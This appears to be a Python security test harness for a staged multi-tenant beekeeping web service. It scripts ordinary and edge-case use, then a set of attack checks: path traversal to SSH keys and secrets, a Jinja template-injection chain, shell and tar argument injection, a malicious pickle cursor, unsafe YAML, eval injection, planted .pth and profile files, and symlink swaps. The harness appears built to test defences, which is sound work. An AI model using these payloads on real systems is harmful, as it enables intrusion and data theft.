# SPDX-License-Identifier: Apache-2.0
"""A FastAPI service behind gunicorn, and the office's commands beside it."""
import base64
import concurrent.futures
import json
import os
import pathlib
import pickle
import sys

from attackers import Bomb, in_yaml
import stage

sys.path.insert(0, str(pathlib.Path(__file__).parent))
from apiaries_material import (  # noqa: E402
    Keeper, book_day, pdf, picture, workbook)

OFFICE = "not-" + stage.SECRET
RATES = {"__init__.py": "def cents(text):\n"
                        "    return round(float(text) * 100)\n"}
RATES_NEW = {
    "__init__.py": "from waxrates.amounts import cents\n",
    "amounts.py": "import decimal\nimport pkgutil\n\n\ndef cents(text):\n"
                  '    signs = pkgutil.get_data("waxrates", "signs.txt")'
                  ".decode()\n"
                  "    return int(decimal.Decimal(text.strip(signs)) * 100)\n",
    "signs.txt": "$€£ "}


class FastapiApiaries(stage.Service):
    """Hives, harvests and papers of many associations (FastAPI, gunicorn)."""
    packages = ["python3-fastapi", "python3-uvicorn", "gunicorn",
                "python3-sqlalchemy", "python3-pandas", "python3-openpyxl",
                "python3-pil", "python3-httpx", "python3-jinja2",
                "python3-yaml", "python3-click", "python3-jwt",
                "python3-passlib", "python3-multipart", "poppler-utils",
                "qpdf", "zip", "file", "fonts-dejavu-core"]

    def arrange(self):
        for name in ("jwt_key", "hook_key"):
            stage.write(self.srv / "run/secrets" / f"apiaries_{name}",
                        f"{name}-{stage.SECRET}", 0o600)
        (self.srv / "incoming").mkdir()
        self.install("waxrates", "1.4.0", RATES)
        (self.srv / "data/tenants").mkdir(parents=True)
        self.seed("data/central.db", self.python, "office.py", "setup",
                  OFFICE)

    def arrange_benign(self):
        self.install("waxrates", "1.5.0", RATES_NEW)

    def environment(self):
        return {**super().environment(), "APIARIES_STATION":
                f"http://127.0.0.1:{self.port('station')}"}

    def command(self):
        return [self.python, "/usr/bin/gunicorn", "--preload", "-w", "2",
                "-k", "uvicorn.workers.UvicornWorker", "--bind",
                f"127.0.0.1:{self.port('web')}", "apiaries.main:app"]

    def is_ready(self):
        return self.browser().get("/ready")[0] == 200

    # ------------------------------------------------------------ ordinary use
    def outside(self):
        self.site("station").page("*", '{"sun": 7, "rain": 2}')
        self.site("partner").page("*", "thanks")
        self.site("ministry").page("*", "noted")

    def enter(self, name, tenant):
        """A keeper; the office takes him in first if he is new."""
        browser = self.browser()

        def login(name, password):
            answer = browser.fetch("/login", json.dumps({
                "user": name, "password": password}).encode(), {
                    "Content-Type": "application/json"})
            return (json.loads(answer[1])["token"] if answer[0] == 200
                    else None)
        token = login(name, name[::-1])
        if not token:
            office = Keeper(browser, login("office", OFFICE))
            self.expect_answer(f"{name} of {tenant} is new", office.post(
                "/tenants", slug=tenant, user=name, password=name[::-1]),
                status=201)
            token = login(name, name[::-1])
        self.expect(f"{name} enters", token)
        return Keeper(browser, token)

    def hive(self, keeper, name, **more):
        got = keeper.post("/hives", name=name, **more)
        self.expect(f"hive {name}", got[0] in (201, 409), got)
        return json.loads(got[1]).get("id")

    def season(self, keeper, hive, days, kilos, price):
        """Inspections and harvests."""
        for number, day in enumerate(days):
            self.expect_answer(f"inspection {day}", keeper.post(
                "/inspections", hive=hive, day=day, mites=number * 3,
                notes=f"seen on {day}"), status=201)
        for day, kg in zip(days, kilos):
            self.expect_answer(f"harvest {day}", keeper.post(
                "/harvests", hive=hive, day=day, kg=kg, price=price),
                "cents", 201)
        page = self.expect_answer("first page", keeper.get("/inspections"),
                                  "next")
        if page:
            self.expect_answer("next page", keeper.get(
                "/inspections", cursor=json.loads(page)["next"]), "rows")

    def exports(self, keeper, since, until, formula, separator):
        self.expect_answer(f"csv {since}", keeper.get(
            "/exports/harvests.csv", since=since, until=until,
            separator=separator), separator + "kg")
        self.expect_answer(f"xlsx {until}", keeper.get(
            "/exports/harvests.xlsx", since=since, until=until), "PK")
        self.expect_answer(f"html {formula}", keeper.get(
            "/exports/harvests.html", since=since, until=until,
            formula=formula), "extra")

    def album(self, keeper, album, pictures, side):
        for name, content in pictures.items():
            self.expect_answer(f"photo {name}", keeper.upload(
                "/photos", name, content, album=album), status=201)
            self.expect_answer(f"thumb {name}", keeper.get(
                "/thumbs", name=f"{album}/{name}", side=side), b"\xff\xd8")
            self.expect_answer(f"{name} back", keeper.get(
                "/photos", name=f"{album}/{name}"), content[:20])
        self.expect_answer("albums", keeper.get("/photos"),
                           json.dumps(next(iter(pictures)),
                                      ensure_ascii=False)[1:-1])

    def paper(self, keeper, hive, name, content, state="ready"):
        got = self.expect_answer(f"paper {name}", keeper.upload(
            f"/papers/{hive}", name, content), status=202)
        number = json.loads(got)["id"] if got else 0

        def found():
            return json.loads(keeper.get(f"/papers/{hive}/{number}")[1])
        self.expect(f"{name} is {state}", stage.wait_for(
            lambda: found().get("state") == state, 12), found())
        return number

    def papers(self, keeper, hive, names, title):
        """Several, then all in one."""
        for name in names:
            self.paper(keeper, hive, name, pdf(f"Lab {title}"))
            self.expect_answer(f"text of {name}", keeper.get(
                "/text", hive=hive, name=name[:-4]), "Lab")
            self.expect_answer(f"{name} itself", keeper.get(
                "/paper", hive=hive, name=name), "%PDF")
        self.expect_answer(f"dossier {title}", keeper.post(
            f"/dossiers/{hive}", names=names, title=title), "%PDF")
        self.expect_answer(f"pack of {len(names)}", keeper.post(
            f"/packs/{hive}", names=names), "PK")

    def neighbours(self, keeper, to, text, path, region):
        self.expect_answer(f"letter to {to}", keeper.post(
            "/letters", to=to, text=text), "Dear")
        for name in ("partner", "ministry"):
            self.expect_answer(f"{name} {path}", keeper.post(
                "/hooks", url=self.site(name).url + path), status=201)
            self.expect_answer(f"try {name}", keeper.post(
                "/hooks/test", url=self.site(name).url + path), "body")
        for _ in range(2):
            self.expect_answer(f"forecast {region}", keeper.get(
                f"/forecast/{region}"), "rain")

    def labels(self, keeper, text, **more):
        self.expect_answer(f"label {text}", keeper.upload(
            "/labels", None, b"", text=text, **more), "PNG")

    def deliver(self, tenant, name, text):
        """Something into the import directory."""
        stage.write(self.srv / "incoming" / tenant / name, text)

    def intake(self, *options, found=""):
        words = [self.python, "office.py", "intake", *options]
        self.expect_run(words[1:], self.run(*words), found=found)

    def nightly(self, date, keep):
        words = [self.python, "office.py", "nightly", "--date", date,
                 "--keep", keep]
        self.expect_run(words[1:], self.run(*words), found="kept",
                        made=[f"backups/{date}.tar.gz"])

    def mistakes(self, keeper, day):
        """What testers try."""
        self.expect_answer("no picture", keeper.upload(
            "/photos", f"notes{day}.jpg", b"just text", album="oops"),
            status=415)
        self.expect_answer("no token", self.browser().get("/photos"),
                           status=403)
        self.expect_answer("no such photo", keeper.get(
            "/photos", name=f"none/{day}.jpg"), status=404)
        self.expect_answer("no number", keeper.get("/thumbs", name="x",
                                                   side="wide"), status=422)
        self.expect_answer("unknown hive", keeper.upload(
            "/books", "strange.xlsx", workbook([
                [f"nobody's {day}", book_day(day), 1.5, 100]])), status=500)
        self.paper(keeper, 1, f"broken-{day}.pdf", b"%PDF-1.4 nothing",
                   "failed")
        self.expect_answer("nothing there", keeper.get("/nothing"),
                           status=404)

    def train(self, day):
        self.outside()
        year = 2024 + day
        visitor = self.browser()
        self.expect_answer("style", visitor.get("/static/page.css"), "body")
        anna = self.enter("anna", "lindenhof")
        first = self.hive(anna, "Linde 1", place="garden")
        second = self.hive(anna, f"Orchard {day}")
        self.expect_answer("hive twice", anna.post(
            "/hives", name="Linde 1"), status=409)
        self.season(anna, first, [f"{year}-04-0{day}", f"{year}-05-1{day}",
                                  f"{year}-07-2{day}"], [11.5, 7 + day],
                    "12.50")
        self.exports(anna, f"{year}-01-01", f"{year}-12-31",
                     ["kg * 2", "cents / 100", "round(kg, 1)"][day - 1],
                     [",", ";", ","][day - 1])
        self.album(anna, f"{year}/spring", {
            f"frame-{day}.jpg": picture("JPEG"),
            "entrance.png": picture("PNG", 200 + day, 90)}, 64)
        self.papers(anna, first, [f"lab-{year}.pdf", "varroa.pdf"][:day],
                    f"spring {year}")
        self.paper(anna, second, f"invoice{day}.txt", b"three frames\n")
        self.neighbours(anna, f"Mr. Novak {day}", f"my bees fly {day} miles.",
                        "/bees/lindenhof", f"de/by/8033{day}")
        self.labels(anna, f"Linden honey {year}")
        for rule in ("varroa", "feeding"):
            self.expect_answer(f"advice {rule}", anna.get(
                f"/advice/{rule}", mites=day * 2), "advice")
        self.mistakes(anna, day)

        name, tenant, album, font, region = [
            ("ben", "riverside-bees", "2025/swarms", "DejaVuSans-Bold",
             "uk/kent/me14"),
            ("carla m.", "oak.hill", "2026/summer/row 2", "DejaVuSans",
             "us/vermont/05401"),
            ("dora", "west5", "winter/hall 3", "DejaVuSans-Bold",
             "ie/cork/t12")][day - 1]
        other = self.enter(name, tenant)
        hives = [self.hive(other, f"{tenant} {letter}")
                 for letter in "ABC"[:day + 1]]
        for number, hive in enumerate(hives):
            self.season(other, hive, [f"{year - 1}-0{day + 3}-0{number + 1}",
                                      f"{year}-0{day + 5}-1{number}"],
                        [4.25 * day], f"{9 + day}.90")
        self.exports(other, f"{year - 1}-03-01", f"{year}-09-30",
                     ["cents + 1", "kg / 2", "int(kg)"][day - 1],
                     [";", ",", ";"][day - 1])
        self.album(other, album, {
            f"queen {day}.jpeg": picture("JPEG", 300, 200),
            f"IMG_20{day}0{day}.gif": picture("GIF", mode="L")}, 96 + day)
        self.papers(other, hives[-1], [f"sheet {n} of {day + 1}.pdf"
                                       for n in range(1, day + 2)],
                    f"{name} {day}")
        self.paper(other, hives[0], f"weights{day}.csv", b"a,b\n1,2\n")
        self.neighbours(other, name.title(), "thank you, {{ to|upper }}!",
                        f"/in/{tenant.replace('.', '-')}?v={day}", region)
        self.labels(other, f"{tenant} no. {day}", font=font, size=18 + day)
        self.expect_answer("book", other.upload(
            "/books", f"harvest {year}.xlsx", workbook([
                [f"{tenant} A", book_day(day), 3.5, 900]])), "1")

        self.deliver("lindenhof", f"scale-{day}.csv",
                     f"hive,day,kg,cents\n1,{year}-08-01,{day}.5,1100\n")
        self.deliver(tenant, f"{year}/scale.yaml", "harvests:\n"
                     f"- {{hive: 1, day: {year}-08-0{day}, kg: 2, "
                     "cents: 800}\n")
        self.deliver(tenant, f"bad-{day}.csv", "hive,day,kg,cents\n"
                     f"1,{day}th of May,1,1\n")
        self.expect_answer("preview", anna.get(
            "/incoming", name=f"scale-{day}.csv"), "1100")
        if day == 2:
            self.restart()
            self.enter("anna", "lindenhof")
        self.halt()  # in the evening
        if day != 1:
            self.intake("--only", "lindenhof", found="1 rows")
        self.intake(found="failed")
        for night in range(day + 1):
            self.nightly(f"{year}-0{day + 2}-0{night + 1}", 1 + day % 2)

    def benign(self):
        self.outside()
        for name, tenant, album, pictures, sheets, region in (
                ("Hans Peter", "St-Ambrose", "2031/late autumn/slope.3/left",
                 {"Stock 7 – Wabe.jpg": picture("JPEG", 640, 400),
                  "DSC.0042.v2.tif": picture("TIFF")},
                 ["Befund Nr. 12.pdf", "b-2.pdf", "c_3.pdf", "d.pdf"],
                 "at/Kärnten/9020 Klagenfurt"),
                ("o.brien", "bee2bee.example", "roof",
                 {"a.bmp": picture("BMP"), "b.jpg": picture("JPEG", 9, 9)},
                 ["x.pdf"], "ie/dublin/d08"),
                ("zoe-lu", "lindenhof", "2030/spring/Linde 1/top box/frame 4",
                 {"top.webp": picture("WEBP"), "queen.png": picture(
                     "PNG", 80, 80, "RGBA")},
                 ["lab-2030.pdf", "varroa.v3.pdf"], "de/by/80999")):
            keeper = self.enter(name, tenant)
            hives = [self.hive(keeper, f"{name} {number}", place="hill (N)")
                     for number in range(1, 6)]
            self.season(keeper, hives[3], ["2030-02-28", "2031-11-30",
                                           "2031-12-01", "2032-02-29"],
                        [0.25, 101, 33.3], "€8.75")
            self.exports(keeper, "2030-02-01", "2032-03-31",
                         "kg * cents / 1000 if kg > 1 else 0", "|")
            self.album(keeper, album, pictures, 150)
            self.papers(keeper, hives[4], sheets, f"{name} 2031.2")
            self.paper(keeper, hives[4], "Waage (Kopie).ods", b"PK\3\4 sheet")
            self.paper(keeper, hives[1], "README", b"no extension\n")
            self.neighbours(keeper, f"Fam. {name}", "Grüße, {{ sender }}: "
                            "{{ to|length }} jars", f"/v2/{name[0]}/2031/in"
                            "?key=a%20b", region)
            self.labels(keeper, f"Honig – {name}", font="DejaVuSerif",
                        size=31)
            self.expect_answer("advice", keeper.get(
                "/advice/varroa", mites=400), "treat")
            self.deliver(tenant, "2031/12/scales/night log.yaml",
                         "harvests:\n- {hive: 4, day: 2031-12-24, kg: 0.5, "
                         "cents: 1}\n- {hive: 5, day: 2031-12-25, kg: 1, "
                         "cents: 2}\n")
            self.deliver(tenant, f"{name}.csv",
                         "hive,day,kg,cents\n2,2031-12-31,77,5\n")
            self.expect_answer("preview", keeper.get(
                "/incoming", name=f"{name}.csv"), "77")
        self.deliver("bee2bee.example", "list.yaml", "harvests: [1, 2\n")
        self.expect_answer("no preview", keeper.get(
            "/incoming", name="2031/none.csv"), status=404)
        self.halt()
        self.intake("--only", "St-Ambrose", found="2 rows")
        self.intake(found="failed")
        for date in ("2031-12-30", "2031-12-31", "2032-01-01"):
            self.nightly(date, 2)
        self.nightly("2032-02-29", 1)
        self.start()
        keeper = self.enter("zoe-lu", "lindenhof")

        self.expect_answer("book of many", keeper.upload(
            "/books", "Ernte 2031 (2).xlsx", workbook([
                ["zoe-lu 3", book_day(9), number / 4, 100 * number]
                for number in range(1, 400)])), "399")
        self.paper(keeper, 3, "large.tar.bin", os.urandom(3 << 20))
        self.expect_answer("large photo", keeper.upload(
            "/photos", "panorama.bmp", picture("BMP", 1200, 900),
            album="2031"), status=201)
        self.expect_answer("tab", keeper.get(
            "/exports/harvests.csv", since="2031-01-01", until="2031-12-31",
            separator="\t"), "\tkg")
        self.expect_answer("nothing in that year", keeper.get(
            "/exports/harvests.xlsx", since="1999-01-01",
            until="1999-12-31"), "PK")
        self.expect_answer("no such column", keeper.get(
            "/exports/harvests.html", since="2031-01-01", until="2031-12-31",
            formula="kilos * 2"), status=500)
        self.expect_answer("no such kind", keeper.get(
            "/exports/harvests.ods", since="2031-01-01",
            until="2031-12-31"), status=404)
        self.expect_answer("thumb of nothing", keeper.get(
            "/thumbs", name="2031/nothing.jpg"), status=500)
        self.expect_answer("no kilos", keeper.post(
            "/harvests", hive=1, day="2031-02-30", kg=-1, price="1"),
            status=422)
        self.expect_answer("bad price", keeper.post(
            "/harvests", hive=1, day="2031-02-03", kg=1, price="cheap"),
            status=500)
        self.expect_answer("no such user", self.browser().fetch(
            "/login", b'{"user": "eve", "password": "x"}', {
                "Content-Type": "application/json"}), status=401)
        self.expect_answer("bad token", Keeper(
            self.browser(), "a.b.c").get("/photos"), status=401)
        self.expect_answer("not the office", keeper.post(
            "/tenants", slug="mine", user="me", password="me"), status=403)
        self.site("partner").page("/down", "later", 503)
        self.expect_answer("partner is ill", keeper.post(
            "/hooks/test", url=self.site("partner").url + "/down"), "503")
        self.site("station").page("/v1/mars", "no", 404)
        self.expect_answer("no forecast", keeper.get("/forecast/mars"),
                           status=502)
        self.restart()
        with concurrent.futures.ThreadPoolExecutor(6) as pool:
            list(pool.map(lambda name: self.enter(name, "lindenhof").get(
                "/photos"), ["zoe-lu", "anna", "Hans Peter", "o.brien",
                             "pia k.", "quentin"]))
        self.exports(self.enter("anna", "lindenhof"), "2030-01-01",
                     "2032-12-31", "kg + cents", ",")

    def health(self):
        self.outside()
        keeper = self.enter("anna", "lindenhof")
        self.hive(keeper, "Linde 1", place="garden")
        self.paper(keeper, 1, "lab-2025.pdf", pdf("Lab"))
        self.expect_answer("text", keeper.get("/text", hive=1,
                                              name="lab-2025"), "Lab")
        self.expect_answer("harvest", keeper.post(
            "/harvests", hive=1, day="2025-04-01", kg=11.5, price="12.50"),
            status=201)
        self.expect_answer("csv", keeper.get(
            "/exports/harvests.csv", since="2025-01-01", until="2025-12-31",
            separator=","), "Linde 1")
        self.expect_answer("hook", keeper.post(
            "/hooks/test", url=self.site("partner").url + "/bees/lindenhof"),
            "thanks")
        self.deliver("lindenhof", "scale-1.csv",
                     "hive,day,kg,cents\n1,2025-08-01,1.5,1100\n")
        self.intake("--only", "lindenhof", found="scale-1.csv: 1 rows")

    # ----------------------------------------------------------------- attacks
    def evil(self):
        """A keeper of bad intent, with a harvest."""
        keeper = self.enter("anna", "lindenhof")
        self.hive(keeper, "Linde 1", place="garden")
        keeper.post("/harvests", hive=1, day="2025-04-01", kg=11.5,
                    price="12.50")
        keeper.upload("/papers/1", "lab-2025.pdf", pdf("Lab"))
        return keeper

    def reads(self, name):
        return self.evil().get("/paper", hive=1, name=name)[1]

    def writes(self, name, text):
        self.evil().upload("/papers/1", name, text.encode())

    def computes(self, code):
        return self.evil().get(
            "/exports/harvests.html", since="2025-01-01", until="2025-12-31",
            formula=code)[1]

    def renders(self, code):
        return self.evil().post("/letters", to="eve", text=(
            "{{ cycler.__init__.__globals__.__builtins__." + code + " }}"))[1]

    def turns(self, *call):
        self.evil().get("/inspections", cursor=base64.urlsafe_b64encode(
            pickle.dumps(Bomb(*call))).decode())

    def imports(self, code):
        self.enter("ben", "riverside-bees")
        self.deliver("riverside-bees", "scale.yaml", in_yaml(code))
        self.run(self.python, "office.py", "intake")

    def asks(self, url):
        return self.evil().post("/hooks/test", url=url)

    @stage.attack("traversal")
    def paper_is_a_private_key(self):
        return self.is_told(self.reads("../" * 6 + "home/.ssh/id_rsa"))

    @stage.attack("secret disclosure")
    def paper_is_the_signing_key(self):
        return self.is_told(self.reads(
            "../../../../../run/secrets/apiaries_jwt_key"))

    @stage.attack("source disclosure")
    def paper_is_the_source(self):
        return b"pickle.loads" in self.reads(
            f"{self.srv}/apiaries/main.py")

    @stage.attack("secret disclosure")
    def paper_is_the_central_database(self):
        return b"SQLite" in self.reads("../../../../central.db")

    @stage.attack("secret disclosure")
    def preview_is_the_payroll(self):
        return self.is_told(self.evil().get(
            "/incoming", name=f"{self.place}/payroll/2026.csv"))

    @stage.attack("secret disclosure")
    def letter_reads_the_environment(self):
        return b"HOME=" in self.renders("open('/proc/self/environ').read()")

    @stage.attack("template injection")
    def letter_reads_a_password(self):
        return self.template_reads(self.renders)

    @stage.attack("template injection")
    def letter_runs_a_command(self):
        return self.template_runs(self.renders)

    @stage.attack("exfiltration")
    def letter_sends_credentials(self):
        return self.template_steals(self.renders)

    @stage.attack("SSRF")
    def hook_is_an_internal_service(self):
        return self.fetches_inside(self.asks)

    @stage.attack("SSRF")
    def hook_is_redirected_inside(self):
        return self.is_redirected_inside("partner", self.asks)

    @stage.attack("command injection")
    def dossier_runs_a_command(self):
        return self.runs_line(lambda line: self.evil().post(
            "/dossiers/1", names=[f"lab-2025.pdf'; {line}; echo '"]))

    @stage.attack("command injection")
    def title_runs_a_command(self):
        return self.runs_line(lambda line: self.evil().post(
            "/dossiers/1", names=["lab-2025.pdf"], title=f"x'; {line} #"))

    @stage.attack("argument injection")
    def pack_runs_a_command(self):
        return self.runs_line(lambda line: self.evil().post(
            "/packs/1", names=["lab-2025.pdf", "-T", "-TT", f"{line} #"]))

    @stage.attack("traversal")
    def pack_holds_the_payroll(self):
        return b"payroll" in self.evil().post(
            "/packs/1", names=["lab-2025.pdf",
                               f"{self.place}/payroll/2026.csv"])[1]

    @stage.attack("unsafe pickle")
    def cursor_runs_a_command(self):
        return self.runs_line(lambda line: self.turns(os.system, line))

    @stage.attack("reverse shell")
    def cursor_calls_home(self):
        return self.calls_home(lambda code: self.turns(exec, code))

    @stage.attack("unsafe yaml")
    def import_steals(self):
        return self.steals(self.imports)

    @stage.attack("unsafe yaml")
    def import_forks(self):
        return self.forks(self.imports)

    @stage.attack("eval injection")
    def formula_reads_the_payroll(self):
        return self.is_told(self.computes(
            f"open('{self.place}/payroll/2026.csv').read()"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.computes)

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(lambda code: self.computes(f"exec({code!r})"))

    @stage.attack("write to code", fresh=True)
    def paper_becomes_a_rule(self):
        def use(line):
            self.writes("../../../../../apiaries/rules/evil.py",
                        f"import os\nos.system('{line}')\n")
            self.evil().get("/advice/evil", mites=1)
        return self.runs_line(use)

    @stage.attack("write to code", fresh=True)
    def paper_replaces_a_template(self):
        self.writes("../../../../../templates/base.html", "planted")
        return "planted" in (self.srv / "templates/base.html").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def paper_replaces_the_profile(self):
        self.writes(f"{self.home}/.profile", "planted")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def paper_becomes_a_pth_file(self):
        self.writes(f"{self.site_packages}/x.pth", "import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("symlink swap", fresh=True)
    def paper_became_a_link(self):
        keeper = self.evil()
        keeper.upload("/papers/1", "varroa.pdf", pdf("Lab"))
        path = self.srv / "data/tenants/lindenhof/papers/1/varroa.pdf"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(keeper.get("/paper", hive=1, name="varroa.pdf"))

    @stage.attack("symlink swap", fresh=True)
    def album_became_a_link(self):
        keeper = self.evil()
        keeper.upload("/photos", "a.png", picture("PNG"), album="2025/spring")
        album = self.srv / "data/tenants/lindenhof/photos/2025/spring"
        (album / "a.png").unlink()
        album.rmdir()
        album.symlink_to(self.home / ".ssh")
        return self.is_told(keeper.get("/photos",
                                       name="2025/spring/id_rsa"))

    @stage.attack("malicious dependency", fresh=True)
    def waxrates_sends_credentials(self):
        return self.dependency_steals("waxrates", "1.4.1", RATES,
                                      self.restart)
